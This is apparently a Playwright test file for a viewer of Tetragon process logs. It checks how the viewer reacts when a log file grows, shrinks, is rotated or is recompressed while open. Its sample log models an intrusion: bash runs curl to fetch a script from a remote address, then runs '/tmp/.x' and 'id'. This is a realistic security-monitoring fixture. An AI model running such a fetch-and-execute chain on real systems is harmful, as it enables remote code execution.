/** Files that change on disk while they are open, as the agent's own log does. Chromium then refuses to read on. */
import { appendFile, copyFile, readFile, truncate, utimes, writeFile } from 'node:fs/promises'
import { join } from 'node:path'
import { gzipSync } from 'node:zlib'
import type { Page } from '@playwright/test'
import { drawLog } from '../src/testing/draw-log'
import { expect, test } from './helpers/large-log'

const log = drawLog(`
  pod default/xwing container 1fb931d2 node n1
    10 /bin/bash 0s..9s
      11 /usr/bin/curl -s http://198.51.100.7/s.sh 1s..2s exit 22
      12 /bin/sh /tmp/.x 3s..8s
        13 /usr/bin/id 4s..5s
`)
const early = log.lines.filter((line) => !line.includes('/tmp/.x') && !line.includes('/usr/bin/id'))
const later = log.lines.filter((line) => !early.includes(line))
const textOf = (lines: readonly string[]): string => lines.map((line) => `${line}\n`).join('')

/** The browser compares times in seconds: a file that was written just now must look older before it changes. */
async function makeOld(path: string): Promise<void> {
  await utimes(path, 1_700_000_000, 1_700_000_000)
}

/** Picks a file, changes it on the disk, and only then drops it: the page meets an old view of it. */
async function dropAfterChange(page: Page, path: string, change: () => Promise<void>): Promise<void> {
  await page.evaluate(() => {
    const input = document.createElement('input')
    input.type = 'file'
    input.id = 'held-back'
    document.body.append(input)
  })
  await page.locator('#held-back').setInputFiles(path)
  // the browser looks at the file when it is asked for its size, at the latest
  await page.evaluate(() => document.querySelector<HTMLInputElement>('#held-back')!.files![0].size)
  await change()
  await page.evaluate(() => {
    const input = document.querySelector<HTMLInputElement>('#held-back')!
    const dataTransfer = new DataTransfer()
    dataTransfer.items.add(input.files![0])
    document.body.dispatchEvent(new DragEvent('drop', { bubbles: true, cancelable: true, dataTransfer }))
    input.remove()
  })
}

test('a file that grew after it was read: its raw JSON says so, and it can be opened again to read the rest', async ({
  viewer,
  page,
  folder,
}) => {
  const path = await folder.write('tetragon.log', textOf(early))
  await makeOld(path)
  await viewer.goto()
  await viewer.openFiles(path)
  await expect(viewer.status).toContainText('2 processes')
  await appendFile(path, textOf(later))
  await viewer.selectRow('/usr/bin/curl')
  await expect(viewer.details).toContainText('exit 22')
  await page.getByRole('tab', { name: 'Raw JSON' }).click()
  await expect(page.getByRole('tabpanel')).toContainText('The file has changed on disk since it was opened')

  await expect(viewer.button(/Reopen/)).toBeVisible()
  await viewer.pickWith(viewer.button(/Reopen/), path)
  await expect(viewer.status).toContainText('4 processes')
  await viewer.waitForIdle()
  await expect(viewer.row('/usr/bin/id')).toHaveAttribute('aria-level', '4')
  await expect(viewer.status).toContainText(`${log.lines.length} events`)
  await expect(viewer.notices).toHaveCount(0)
  // the events that were read before can be read again too
  await expect(page.getByRole('tabpanel')).toContainText('"process_exec"')
})

test('the list of events says which lines could not be read again', async ({ viewer, folder }) => {
  const path = await folder.write('tetragon.log', textOf(early))
  await makeOld(path)
  await viewer.goto()
  await viewer.openFiles(path)
  await appendFile(path, textOf(later))
  await viewer.filter.fill('curl')
  await expect(viewer.events.getByRole('option')).toHaveCount(2)
  await expect(viewer.events.getByRole('option').first()).toContainText('/usr/bin/curl')
  await expect(viewer.events.getByRole('option').first()).toContainText('(file changed)')
})

test('a file that changed between being picked and being read is said to have changed, and can be opened again', async ({
  viewer,
  page,
  folder,
}) => {
  const path = await folder.write('tetragon.log', textOf(early))
  await makeOld(path)
  await viewer.goto()
  await dropAfterChange(page, path, () => appendFile(path, textOf(later)))
  await expect(viewer.notices).toContainText('tetragon.log has changed on disk')
  await viewer.pickWith(viewer.button('Reopen tetragon.log'), path)
  await expect(viewer.status).toContainText('4 processes')
  await expect(viewer.notices).toHaveCount(0)
})

test('a large file that grows while it is read: what is loaded stays, and the rest is read on request', async ({
  viewer,
  folder,
  largeLog,
}) => {
  const path = join(folder.path, 'growing.log')
  await copyFile(largeLog.path, path)
  const whole = await readFile(path)
  const cut = whole.lastIndexOf('\n', whole.length - 4_000_000) + 1
  await truncate(path, cut)
  await makeOld(path)
  await viewer.goto()
  const firstRow = viewer.stateAtFirstRow()
  await viewer.pickFiles(path)
  expect(await firstRow).toBe('reading')
  await appendFile(path, whole.subarray(cut))

  await viewer.waitForIdle(60_000)
  await expect(viewer.notices).toContainText(/growing\.log has changed on disk.*events are loaded and stay/)
  await expect(viewer.rows.nth(5)).toBeVisible()
  await viewer.pickWith(viewer.button('Reopen growing.log'), path)
  await expect(viewer.notices).toHaveCount(0)
  const { truth, eventCount } = largeLog
  await expect(viewer.status).toContainText(`${truth.execIds.toLocaleString('en')} processes`, { timeout: 30_000 })
  await expect(viewer.status).toContainText(`${(eventCount - truth.duplicates).toLocaleString('en')} events`)
  await expect(viewer.status).not.toContainText('bad line')
})

test('a large file that is cut short while it is read is said to have changed', async ({
  viewer,
  folder,
  largeLog,
}) => {
  const path = join(folder.path, 'shrinking.log')
  await copyFile(largeLog.path, path)
  await makeOld(path)
  await viewer.goto()
  const firstRow = viewer.stateAtFirstRow()
  await viewer.pickFiles(path)
  expect(await firstRow).toBe('reading')
  await truncate(path, largeLog.bytes - 12_345)

  await viewer.waitForIdle(60_000)
  await expect(viewer.notices).toContainText('shrinking.log has changed on disk')
  await expect(viewer.rows.nth(5)).toBeVisible()
  await expect(viewer.button('Reopen shrinking.log')).toBeVisible()
})

test('a gzip file that changed is read anew, not as text', async ({ viewer, page, folder }) => {
  const path = await folder.write('tetragon.log.gz', gzipSync(textOf(early)))
  await makeOld(path)
  await viewer.goto()
  await dropAfterChange(page, path, () => writeFile(path, gzipSync(log.text)))
  await expect(viewer.button('Reopen tetragon.log.gz')).toBeVisible()
  await viewer.pickWith(viewer.button('Reopen tetragon.log.gz'), path)
  await expect(viewer.status).toContainText('4 processes')
  await expect(viewer.status).toContainText('nothing is known to be missing')
})

test('a log that was rotated meanwhile is opened again from its start', async ({ viewer, page, folder }) => {
  const path = await folder.write('tetragon.log', textOf(early).repeat(20))
  await makeOld(path)
  await viewer.goto()
  await viewer.openFiles(path)
  await writeFile(path, textOf(later)) // a new file of the same name, shorter than what was read
  await viewer.selectRow('/usr/bin/curl')
  await page.getByRole('tab', { name: 'Raw JSON' }).click()
  await expect(page.getByRole('tabpanel')).toContainText('The file has changed on disk since it was opened')
  await expect(viewer.button(/Reopen/)).toBeVisible()
  await viewer.pickWith(viewer.button(/Reopen/), path)
  await expect(viewer.row('/usr/bin/id')).toBeVisible()
  await expect(viewer.row('/usr/bin/curl')).toBeVisible()
  await expect(viewer.status).toContainText('4 processes')
})
